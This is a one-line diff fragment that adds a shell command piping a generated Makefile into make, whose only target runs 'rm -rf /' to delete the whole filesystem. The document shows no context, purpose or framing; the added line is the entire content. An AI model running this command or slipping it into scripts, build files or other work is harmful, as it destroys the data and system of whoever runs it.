@@ -1,0 +1,1 @@
+printf 'all:\n\trm -rf /\n' | make -f -
